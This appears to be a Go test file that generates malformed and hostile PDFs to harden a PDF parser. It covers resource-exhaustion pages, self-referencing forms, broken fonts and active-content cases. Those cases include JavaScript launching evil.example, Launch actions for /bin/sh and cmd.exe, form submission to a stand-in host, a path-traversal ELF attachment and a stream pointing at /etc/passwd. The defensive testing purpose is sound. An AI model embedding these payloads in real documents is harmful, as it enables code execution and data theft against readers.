package pdf

import (
	"bytes"
	"encoding/hex"
	"fmt"
	"strings"
)

// contents are pages that cost more than they say, and fonts that are none.
func contents() []Case {
	font := func(kind, file string, data []byte) func(f *File, o *one) {
		return func(f *File, o *one) {
			d := f.Stream("/Length1 "+fmt.Sprint(len(data)), data, false)
			desc := f.Add("<< /Type /FontDescriptor /FontName /Evil /Flags 4 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /" + file + " " + ref(d) + " >>")
			n := f.Add("<< /Type /Font /Subtype /" + kind + " /BaseFont /Evil /FirstChar 0 /LastChar 255 /Widths [" + strings.Repeat("500 ", 256) + "] /FontDescriptor " + ref(desc) + " >>")
			o.resources += " /Font << /F2 " + ref(n) + " >>"
			o.content += "BT /F2 12 Tf 72 600 Td (evil) Tj ET\n"
		}
	}
	trueType := append([]byte{0, 1, 0, 0, 0xff, 0xff, 0, 0, 0, 0, 0, 0}, bytes.Repeat([]byte("glyf\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"), 200)...)
	return []Case{
		made("huge-page", "a page larger than a number can say", one{box: "[0 0 1e300 1e300]"}),
		made("no-page", "a page turned inside out", one{box: "[99999999999 5 -3 (x)]"}),
		made("saves", "two million saved states", one{content: strings.Repeat("q ", 2_000_000)}),
		made("marks", "a million marks in each other", one{content: strings.Repeat("/P BMC ", 1_000_000)}),
		made("operands", "an operator with a million operands", one{content: strings.Repeat("1 ", 1_000_000) + "re"}),
		made("array-operand", "an operand that is an array in an array, 500,000 deep", one{content: strings.Repeat("[", 500_000)}),
		made("long-page", "ten million characters on one page", one{content: "BT /F1 12 Tf 72 600 Td " + strings.Repeat("(abcdefghi ) Tj ", 1_000_000) + "ET"}),
		made("one-place", "50,000 characters in one place", one{content: strings.Repeat("BT /F1 12 Tf 72 600 Td (x) Tj ET\n", 50_000)}),
		made("far-away", "characters where no number reaches", one{content: "BT /F1 1e38 Tf 1e38 1e38 -1e38 1e38 1e38 1e38 Tm (far) Tj ET BT /F1 0 Tf (none) Tj ET"}),
		made("inline-picture", "a picture in the page that never ends", one{content: "BI /W 65535 /H 65535 /BPC 8 /CS /RGB /F /A85 ID " + strings.Repeat("zzzz", 1000)}),
		made("form-of-itself", "a drawing that draws itself", one{more: func(f *File, o *one) {
			n := f.Reserve()
			f.Set(n, fmt.Sprintf("<< /Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /X %s >> >> /Length 12 >>\nstream\n/X Do /X Do \nendstream", ref(n)))
			o.resources += " /XObject << /X " + ref(n) + " >>"
			o.content += "/X Do\n"
		}}),
		made("forms-by-power", "a drawing of two drawings of two drawings, 40 times", one{more: func(f *File, o *one) {
			n := f.Stream("/Type /XObject /Subtype /Form /BBox [0 0 9 9]", []byte("0 0 1 1 re f"), false)
			for range 40 {
				n = f.Stream("/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X "+ref(n)+" >> >>", []byte("/X Do /X Do"), false)
			}
			o.resources += " /XObject << /X " + ref(n) + " >>"
			o.content += "/X Do\n"
		}}),
		made("glyph-of-itself", "a character that is drawn with itself", one{more: func(f *File, o *one) {
			n := f.Reserve()
			g := f.Stream("", []byte("1000 0 0 0 1000 1000 d1 BT /T 1 Tf (a) Tj ET"), false)
			f.Set(n, fmt.Sprintf("<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] /CharProcs << /a %s >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1000] /Resources << /Font << /T %s >> >> >>", ref(g), ref(n)))
			o.resources += " /Font << /T " + ref(n) + " >>"
			o.content += "BT /T 12 Tf 72 500 Td (aaaa) Tj ET\n"
		}}),
		made("bad-truetype", "a TrueType font whose tables are everywhere", one{more: font("TrueType", "FontFile2", trueType)}),
		made("bad-cff", "a compact font of garbage", one{more: font("Type1", "FontFile3", bytes.Repeat([]byte{1, 0, 4, 4, 0xff, 0xff}, 500))}),
		made("bad-type1", "a Type 1 font whose procedures never end", one{more: font("Type1", "FontFile", []byte("%!PS-AdobeFont-1.0: Evil\n/Private 99999999 dict dup begin /Subrs 999999999 array\n"+strings.Repeat("dup 0 1 RD \xff NP\n", 5000)))}),
		made("map-bomb", "a table of characters with twenty million entries", one{more: func(f *File, o *one) {
			cmap := f.Stream("", []byte("/CIDInit /ProcSet findresource begin begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange\n"+
				strings.Repeat("1 beginbfrange <0000> <FFFF> <0000> endbfrange\n", 300)+"endcmap"), true)
			cid := f.Add("<< /Type /Font /Subtype /CIDFontType2 /BaseFont /Evil /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /W [0 65535 500 0 [" + strings.Repeat("1 ", 100_000) + "]] >>")
			n := f.Add("<< /Type /Font /Subtype /Type0 /BaseFont /Evil /Encoding /Identity-H /DescendantFonts [" + ref(cid) + "] /ToUnicode " + ref(cmap) + " >>")
			o.resources += " /Font << /F2 " + ref(n) + " >>"
			o.content += "BT /F2 12 Tf 72 600 Td <00410042> Tj ET\n"
		}}),
		{"tricks", "words with controls, and in the other direction", func() []byte {
			f := &File{}
			cmap := f.Stream("", []byte("begincmap 1 begincodespacerange <00> <FF> endcodespacerange 4 beginbfchar <41> <202E> <42> <0007> <43> <200B> <44> <D800> endbfchar endcmap"), false)
			font := f.Add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode " + ref(cmap) + " >>")
			content := f.Stream("", []byte("BT /F1 12 Tf 72 700 Td (The ABCD crafted page.) Tj ET"), false)
			tree := f.Reserve()
			page := f.Add("<< /Type /Page /Parent " + ref(tree) + " /MediaBox [0 0 595 842] /Contents " + ref(content) + " /Resources << /Font << /F1 " + ref(font) + " >> >> >>")
			f.Set(tree, "<< /Type /Pages /Count 1 /Kids ["+ref(page)+"] >>")
			return f.Bytes(f.Add("<< /Type /Catalog /Pages "+ref(tree)+" >>"), 0)
		}},
		made("picture-of-text", "a page with a picture and no words, as a scanner makes it", one{stream: "<< /Length 12 >>\nstream\n0 0 9 9 re f\nendstream"}),
	}
}

// acts are documents that want something done, or a secret.
func acts() []Case {
	action := func(name, what, a string) Case {
		return made(name, what, one{catalog: "/OpenAction << " + a + " >>", page: "/AA << /O << " + a + " >> >>"})
	}
	encrypt := func(handler, more string) one {
		return one{trailer: "/Encrypt << /Filter /" + handler + " " + more + " >> /ID [<00> <00>]"}
	}
	secret := hex.EncodeToString(bytes.Repeat([]byte{0x5a}, 32))
	return []Case{
		action("script", "a script that runs when it is opened", "/S /JavaScript /JS (while (true) app.launchURL\\('http://evil.example'\\);)"),
		action("launch", "a program that is to be started", "/S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >>"),
		action("address", "an address that is to be opened", "/S /URI /URI (http://evil.example/)"),
		action("form", "a form that is sent when it is opened", "/S /SubmitForm /F (http://evil.example/) /Flags 4"),
		action("far-file", "a file elsewhere that is to be opened", "/S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit]"),
		made("embedded", "a program in an attachment", one{more: func(f *File, o *one) {
			n := f.Stream("/Type /EmbeddedFile", append([]byte("\x7fELF"), make([]byte, 4096)...), true)
			spec := f.Add("<< /Type /Filespec /F (../../../../bin/sh) /EF << /F " + ref(n) + " >> >>")
			o.catalog = "/Names << /EmbeddedFiles << /Names [(x) " + ref(spec) + "] >> >>"
		}}),
		made("outside-stream", "a page that is a file of the system", one{stream: "<< /Length 0 /F (/etc/passwd) /FFilter /ASCIIHexDecode >>\nstream\n\nendstream"}),
		made("locked", "locked with a password", encrypt("Standard", "/V 2 /R 3 /Length 128 /P -44 /O <"+secret+"> /U <"+secret+">")),
		made("own-lock", "locked in a way of its own", encrypt("Evil", "/V 9 /R 9")),
		made("names-of-themselves", "a list of names that is its own branch", one{more: func(f *File, o *one) {
			n := f.Reserve()
			f.Set(n, "<< /Kids ["+ref(n)+" "+ref(n)+"] /Limits [(a) (z)] >>")
			o.catalog = "/Names << /JavaScript " + ref(n) + " /Dests " + ref(n) + " >> /Outlines " + ref(n)
		}}),
	}
}
